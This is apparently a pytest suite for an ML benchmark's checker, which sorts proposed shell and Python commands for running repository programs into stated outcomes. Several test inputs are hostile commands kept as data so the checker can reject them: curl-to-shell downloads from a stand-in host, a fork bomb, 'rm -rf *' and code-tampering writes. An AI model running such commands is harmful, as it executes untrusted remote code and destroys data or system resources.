"""The whole check of a candidate: every bad input has a stated reason, and nothing runs past its parser."""

from __future__ import annotations

import venv
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from mlbench.interface_check import bash_trace
from mlbench.interface_check import checker as room
from mlbench.interface_check.check_server import CheckEnv
from mlbench.interface_check.checker import Checker, CheckTarget
from mlbench.records import Candidate, Check, CheckStatus, Kind, UsageError

pytestmark = pytest.mark.anyio

PARSE = "import argparse\np = argparse.ArgumentParser()\np.add_argument('--lr', type=float, default=0.1)\n"
FILES = {
    "train.py": PARSE + "p.parse_args()\n",
    "past.py": PARSE + "p.parse_args()\nfor at in range(99):\n    print(at)\n"
    "open('/workspace/past.txt', 'w')\nraise SystemExit('past its parser')\n",
    "rank.py": PARSE + "p.add_argument('--local_rank', type=int)\np.parse_args()\n",
    "dash.py": PARSE + "p.add_argument('--local-rank', type=int)\np.parse_args()\n",
    "loose.py": PARSE + "p.parse_known_args()\n",
    "words.py": "import sys\nprint(sys.argv[1])\n",
    "ranked.py": PARSE + "import os\nrank = int(os.environ['LOCAL_RANK']), os.environ.get('RANK')\np.parse_args()\n",
    "asks.py": "input('name? ')\n" + PARSE + "p.parse_args()\n",
    "reads.py": "import sys\nsys.stdin.read()\n" + PARSE + "p.parse_args()\n",
    "binary.py": "import os\nos.write(1, bytes(range(256)) * 999)\nos.write(2, b'\\xff' * 99)\n"
    + PARSE + "p.parse_args()\n",
    "moves.py": "import os\nos.chdir('/tmp')\n" + PARSE + "p.parse_args()\n",
    "deletes.py": "import os\nos.remove(__file__)\n" + PARSE + "p.parse_args()\n",
    "forks.py": "import forking\n" + PARSE + "p.parse_args()\n",
    "forking.py": "import os, time\nif os.fork() == 0:\n    time.sleep(60)\n",
    "forever.py": "while True:\n    pass\n",
    "clicks.py": "import click\n@click.command()\n@click.option('--n', type=int)\ndef main(n): pass\nmain()\n",
    "broken.py": PARSE + "p.add_argument('--lr')\np.parse_args()\n",
    "lib/__init__.py": "def load(name): return name\n",
    "sub/get.sh": "mkdir -p $1\ncurl -s http://x.example/t.py -o $1/t.py\npython3 $1/t.py --lr 2\n",
    "sub/go.sh": "cd .. && python train.py --lr $LR\n",
    "config.py": "import json\njson.load(open('c.json'))\n" + PARSE + "p.parse_args()\n",
    "wide.py": "import os\nrows, columns = os.popen('stty size', 'r').read().split()\n"
    + "os.get_terminal_size()\n" + PARSE + "p.parse_args()\n",
    "sub/run.py": PARSE + "p.parse_args()\n",
}  # fmt: skip
LONG = "x" * 300


@pytest.fixture(scope="module")
async def checker(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Checker]:
    root = tmp_path_factory.mktemp("repository")
    for name, text in FILES.items():
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(room, "CPU_SECONDS", 1.0)
        async with Checker(CheckTarget(CheckEnv(root, preload=()), {"MODE": "fast"})) as checker:
            yield checker
    assert not (root / "past.txt").exists()
    assert sorted(file.relative_to(root).as_posix() for file in root.rglob("*.*")) == sorted(FILES)


async def ask(checker: Checker, code: str, cwd: str = ".", prefix: str = "", kind: Kind | None = "shell") -> Check:
    return await checker.check(Candidate(code, kind, "test", "line 1: a fault"), cwd, prefix)


@pytest.mark.parametrize(
    ("code", "status", "reason"),
    [
        # the text
        ("", "rejected", "nothing"),
        (" \n\t\n", "rejected", "nothing"),
        ("python train.py\0 --lr 1", "rejected", "nul-byte"),
        ("python train.py\n" + "# x\n" * 250_000, "rejected", "too-long"),
        ("python train.py –lr 1", "rejected", "pasted-characters"),
        ("python train.py --lr “1”", "rejected", "pasted-characters"),
        ("python train.py --lr \ud800", "rejected", "pasted-characters"),
        ("python train.py --lr 1 \\\r\npython train.py\rpython train.py\n", "rejected", "unknown-argument"),
        ("python train.py --lr 1\r\n", "accepted", ""),
        ("for do python train.py", "rejected", "shell-syntax"),
        ("python train.py --lr $LR", "rejected", "unresolved-variable"),
        ("python train.py --lr '<your-lr>'", "rejected", "placeholder"),
        ("echo python train.py", "rejected", "not-a-call-of-the-repository"),
        ("# python train.py", "rejected", "not-a-call-of-the-repository"),
        (f"python {LONG}.py", "rejected", "no-such-file"),
        (f"python {'y/' * 3000}t.py", "rejected", "no-such-file"),
        (f"cd {LONG} && python train.py", "rejected", "no-such-folder"),
        (f"torchrun {LONG}.py", "rejected", "no-such-file"),
        (f"python -m {LONG}", "rejected", "not-a-call-of-the-repository"),
        # what the text does
        ("python train.py; python train.py --lr x", "rejected", "invalid-type"),
        ("python train.py --lr x; python asks.py", "rejected", "invalid-type"),
        ("sleep 1000; python train.py", "accepted", ""),
        ("rm -rf * ; python train.py", "rejected", "no-such-file"),
        ("python train.py --lr $(cat lr.txt | python train.py)", "undecided", "cannot-follow"),
        ("bash sub/get.sh /tmp/data", "undecided", "cannot-follow"),  # its file would be what curl loads
        ("for i in {1..60}; do python train.py --lr $i; done", "undecided", "cannot-follow"),
        # what the program does
        ("python past.py", "accepted", ""),
        ("python reads.py", "accepted", ""),
        ("python binary.py", "accepted", ""),
        ("python moves.py", "accepted", ""),
        ("python deletes.py", "accepted", ""),
        ("python forks.py", "accepted", ""),
        ("python clicks.py --n 3", "accepted", ""),
        ("python clicks.py --n x", "rejected", "invalid-type"),
        ("python asks.py", "undecided", "reads-input"),
        ("python forever.py", "undecided", "time-limit"),
        ("torchrun ranked.py", "accepted", ""),
        ("python ranked.py", "broken", "raised"),  # as it is without a launcher
        ("python words.py a", "accepted", ""),
        ("python words.py a b", "undecided", "reads-argv-by-hand"),
        ("python words.py", "rejected", "missing-argument"),
        ("python broken.py", "broken", "conflicting-options"),
    ],
)
async def test_each_text_has_a_stated_reason(checker: Checker, code: str, status: str, reason: str) -> None:
    found = await ask(checker, code)
    assert (found.status, found.reason) == (status, reason), found
    assert found.seconds > 0
    assert found.message or not reason or reason == "reads-argv-by-hand"


async def test_a_fork_bomb_is_given_up(checker: Checker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bash_trace, "SECONDS", 2.0)  # ten by default; it takes them all, twice
    found = await ask(checker, ":(){ :|:& };:")
    assert (found.status, found.reason) == ("undecided", "cannot-follow"), found
    assert found.message


PRINTS = "import numpy; print(numpy.__version__)"
READS = "import json; print(json.load(open('out.json')))"
RUNS = "import runpy, sys\nsys.argv = ['train.py', '--lr', '2']\nrunpy.run_path('train.py', run_name='__main__')"


@pytest.mark.parametrize(
    "code",
    [
        "python --version; which python; pip list; nvidia-smi; python train.py --lr 2",
        "torchrun --help; python train.py -h; python train.py --lr 2",
        "python train.py --lr 2; python train.py --help | head",
        f'python -c "{PRINTS}"; python train.py --lr 2',
        f'python train.py --lr 2; python -c "{READS}"',
        "python -c 'import lib; print(lib.__file__)'; python train.py --lr 2",
        "python -c 'import lib' || pip install -e .; python train.py --lr 2",
        "python -c \"import os; os.makedirs('results', exist_ok=True)\"; python train.py --lr 2",
        "python -c 'while True: pass'; python train.py --lr 2",
        "missing-tool || true; ./missing.sh || true; python train.py --lr 2",
        f"python - <<'EOF'\n{RUNS}\nEOF",
        "python -c \"import os; os.system('cd sub && python ../train.py --lr 2')\"",
        "python -c \"import subprocess as s, sys; s.run([sys.executable, 'train.py', '--lr=2'], check=True)\"",
        "python -c \"import subprocess as s; print(s.check_output('python train.py --lr 2', shell=True)[0])\"",
        "python -c \"import os; os.execvp('python', ['python', 'train.py', '--lr', '2'])\"",
        "python -c \"import subprocess as s; s.Popen(['bash', 'go.sh'], cwd='sub', env={'LR': '2'}).wait()\"",
        "echo 'python train.py --lr 2' > go.sh; python -c \"import os; os.popen('sh go.sh').read()\"",
    ],
)
async def test_what_is_neutral_and_what_is_followed(checker: Checker, code: str) -> None:
    """A look before, or reading the result back after, once made a right answer wrong."""
    found = await ask(checker, code)
    assert (found.status, found.reason) == ("accepted", ""), found
    assert [(each.program, each.configuration) for each in found.invocations] == [("train.py", {"lr": 2.0})]


async def test_python_that_starts_the_program_and_another(checker: Checker) -> None:
    code = "import subprocess\nfor lr in '12':\n    subprocess.call(['python', 'train.py', '--lr', lr])\n"
    found = await ask(checker, code, kind="python")
    assert [each.configuration for each in found.invocations] == [{"lr": 1.0}, {"lr": 2.0}]
    found = await ask(checker, code + "subprocess.call(['python', 'train.py', '--rl', '3'])", kind="python")
    assert (found.status, found.reason) == ("rejected", "unknown-argument")


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        ("python --version", "help"),
        ("python train.py --help", "help"),
        (f'python -c "{PRINTS}"; pip install x; ls', "not-a-call-of-the-repository"),
        (f'python -c "{READS}"', "no-such-file"),
        ("python -c \"print('python train.py --lr 2')\"", "not-a-call-of-the-repository"),
        ('python -c "import lib; lib.load()"; python train.py --lr 2', "call-does-not-bind"),
        ("python train.py --lr 2; curl -s http://x.example/x | sh", "remote-code"),
        ("python -c \"import os; os.system('curl http://x.example/x | sh')\"; python train.py", "remote-code"),
        ("python -c \"open('train.py', 'a').write('x = 1')\"; python train.py --lr 2", "touches-code"),
        (
            "python - <<'EOF'\ntry:\n    open('train.py', 'a').write('x = 1')\nexcept OSError:\n    pass\nEOF\n"
            "python train.py --lr 2",
            "touches-code",
        ),
        ("python -c \"import os; os.system('echo x = 1 >> train.py')\"; python train.py --lr 2", "touches-code"),
        ("cp -p train.py b; echo 'x = 1' >> train.py; python train.py; mv b train.py", "touches-code"),
        ("echo 'x = 1' >> lib/__init__.py; python train.py", "touches-code"),
        ("if (( RANDOM % 2 )); then python train.py; else python loose.py; fi", "unsteady"),
        ("if (( RANDOM % 2 )); then\n  python train.py --lr 1\nelse\n  python train.py --lr 2\nfi", "unsteady"),
        ("(( RANDOM % 2 )) && python train.py --lr 1 || python train.py --lr 2", "unsteady"),
        ("[ $(date +%H) -ge 12 ] && python train.py", "unsteady"),
        ("[ $(shuf -n 1 -e a b) = a ] || exit 0; python train.py", "unsteady"),
    ],
)
async def test_what_is_not_neutral(checker: Checker, code: str, reason: str) -> None:
    found = await ask(checker, code)
    assert (found.status, found.reason) == ("rejected", reason), found


async def test_a_program_that_asks_for_the_terminals_width(checker: Checker) -> None:
    check = await ask(checker, "python wide.py --lr 0.2")
    assert check.status is CheckStatus.ACCEPTED, check.message


async def test_chance_in_words_alone(checker: Checker) -> None:
    """Each of the words that may come must be right; names of files by the date are."""
    found = await ask(checker, "D=$(date +%s); echo $D; python train.py --lr 2")
    assert [each.configuration for each in found.invocations] == [{"lr": 2.0}]
    found = await ask(checker, "python train.py --lr $((RANDOM % 2))")
    assert {each.configuration["lr"] for each in found.invocations} == {0.0, 1.0}
    assert (await ask(checker, "python train.py --lr $(shuf -n 1 -e 1 x)")).reason == "invalid-type"


async def test_a_launcher_that_looks_for_a_free_port_finds_one(checker: Checker) -> None:
    """OpenPCDet's scripts ask `nc` until a port is free: `more than 200 commands, or no end`."""
    code = (
        "while true; do\n  PORT=$(( RANDOM % 100 + 10000 ))\n"
        '  status="$(nc -z 127.0.0.1 $PORT < /dev/null &>/dev/null; echo $?)"\n'
        '  if [ "${status}" != "0" ]; then break; fi\ndone\necho $PORT\npython train.py --lr 2'
    )
    found = await ask(checker, code)
    assert [each.configuration for each in found.invocations] == [{"lr": 2.0}], found


async def test_a_file_that_a_program_before_may_write(checker: Checker) -> None:
    assert (await ask(checker, "python config.py")).reason == "no-such-file"
    found = await ask(checker, "python train.py && python config.py")
    assert (found.status, found.reason) == ("undecided", "no-such-file")
    reads = "python -c \"import lib; print(open(lib.load('out.txt')).read())\""
    assert (await ask(checker, reads)).reason == "no-such-file"
    found = await ask(checker, f"python train.py; {reads}")
    assert (found.status, len(found.invocations)) == ("accepted", 2)
    found = await ask(checker, "python train.py; echo {} > c.json; python config.py; rm c.json")
    assert (found.status, found.reason, found.message) == ("accepted", "", "")


@pytest.mark.parametrize(
    ("code", "status", "reason"),
    [
        ("import lib\nlib.load('cora')", "accepted", ""),
        ("import lib", "rejected", "not-a-call-of-the-repository"),
        ("import lib\nlib.load()", "rejected", "call-does-not-bind"),
        ("import lib\nlib.lod('cora')", "rejected", "no-such-name"),
        ("import lbi", "rejected", "no-such-module"),
        (f"import {LONG}", "rejected", "no-such-module"),
        (f"from lib import {LONG}", "rejected", "no-such-name"),
        ("import lib\nlib.load(name)", "rejected", "undefined-name"),
        ("import lib\nlib.load(input())", "rejected", "reads-input"),
        ("import os\nos.kill(os.getppid(), 9)", "rejected", "not-a-call-of-the-repository"),
    ],
)
async def test_python_code(checker: Checker, code: str, status: str, reason: str) -> None:
    found = await ask(checker, code, kind="python")
    assert (found.status, found.reason) == (status, reason), found
    assert [each.how for each in found.invocations] == ["code"]


async def test_what_is_neither_language_says_the_fault(checker: Checker) -> None:
    found = await ask(checker, "some words (", kind=None)
    assert (found.status, found.reason, found.message) == ("rejected", "shell-syntax", "line 1: a fault")


async def test_the_folder_the_prefix_and_the_variables(checker: Checker) -> None:
    found = await ask(checker, "python run.py --lr $LR", "sub/.", prefix="export LR=3")
    (invocation,) = found.invocations
    assert (invocation.program, invocation.cwd, invocation.env) == ("sub/run.py", "sub", {"LR": "3"})
    assert (invocation.configuration, invocation.given) == ({"lr": 3.0}, ("lr",))
    assert (await ask(checker, "python run.py", "nowhere")).reason == "no-such-folder"


@pytest.mark.parametrize("cwd", ["..", "/etc", "a/../..", "/workspacex", "a\0b", LONG, "y/" * 3000, "\ud800"])
async def test_a_folder_that_cannot_be_is_the_users_fault(checker: Checker, cwd: str) -> None:
    with pytest.raises(UsageError, match=r"outside of the repository|name of a folder"):
        await ask(checker, "python train.py", cwd)


async def test_what_a_launcher_adds_is_only_for_programs_that_know_it(checker: Checker) -> None:
    """`--local_rank=0` once had programs rejected that do not have the option, whatever the version of the launcher."""
    known = await ask(checker, "deepspeed rank.py --lr 1")
    assert known.invocations[0].configuration == {"lr": 1.0, "local_rank": 0}
    assert (known.invocations[0].argv, known.invocations[0].given) == (("--lr", "1"), ("lr",))
    dash = await ask(checker, "python -m torch.distributed.launch dash.py --lr 1")
    assert dash.invocations[0].configuration == {"lr": 1.0, "local_rank": 0}
    own = await ask(checker, "deepspeed rank.py --local_rank 3")
    assert own.invocations[0].given == ("local_rank",)
    unknown = await ask(checker, "deepspeed train.py --lr 1")
    assert (unknown.status, unknown.invocations[0].argv) == ("accepted", ("--lr", "1"))
    loose = await ask(checker, "deepspeed loose.py --lr 1 --x")
    assert loose.invocations[0].ignored == ("--x",)
    assert (await ask(checker, "deepspeed train.py --rl 1")).reason == "unknown-argument"


async def test_a_refusal_outweighs_what_is_undecided(checker: Checker) -> None:
    found = await ask(checker, "python asks.py; python broken.py; python train.py --rl 1; python train.py")
    assert (found.status, found.reason) == ("rejected", "unknown-argument")
    assert [each.status for each in found.invocations] == ["undecided", "broken", "rejected", "accepted"]
    found = await ask(checker, "python asks.py; python broken.py")
    assert (found.status, found.reason) == ("broken", "conflicting-options")


async def test_all_programs_of_a_text_share_one_bound(checker: Checker, monkeypatch: pytest.MonkeyPatch) -> None:
    """Fifty programs that never end would have taken fifty times the bound of one."""
    monkeypatch.setattr(room, "TOGETHER", 0.2)
    found = await ask(checker, "for i in 1 2 3 4; do python forever.py --lr $i; done")
    assert (found.status, found.reason) == ("undecided", "time-limit")
    assert [each.reason for each in found.invocations] == ["time-limit"] * 4
    assert found.invocations[-1].seconds == 0
    monkeypatch.setattr(room, "TOGETHER", 1e-9)  # programs that end by themselves take nothing, on any machine
    assert (await ask(checker, "for i in 1 2 3; do python train.py --lr $i; done")).status is CheckStatus.ACCEPTED
    assert (await ask(checker, "python train.py")).status is CheckStatus.ACCEPTED


async def test_the_next_question_finds_everything_as_it_was(checker: Checker) -> None:
    texts = ("python train.py --lr 2", "rm -rf *; python train.py", "python deletes.py")
    answers = [(await ask(checker, text)).status for text in texts]
    assert [(await ask(checker, text)).status for text in texts] == answers


async def test_a_parser_that_the_environment_lacks_stands_in_for_the_repositorys_code_alone(tmp_path: Path) -> None:
    """Under an environment without click, a click program was `no-such-module`, whatever its words."""
    (tmp_path / "clicks.py").write_text(FILES["clicks.py"])
    (tmp_path / "rich_.py").write_text("import rich\n" + PARSE)
    environment = tmp_path / "environment"
    venv.create(environment, symlinks=True)
    async with Checker(CheckTarget(CheckEnv(tmp_path, environment, preload=()))) as checker:
        found = await ask(checker, "python clicks.py --n 3")
        assert (found.status, found.invocations[0].configuration) == ("accepted", {"n": 3})
        assert "click is missing in the environment" in found.invocations[0].unchecked[0]
        assert (await ask(checker, "python rich_.py")).reason == "no-such-module"
        assert (await ask(checker, "import click", kind="python")).reason == "no-such-module"
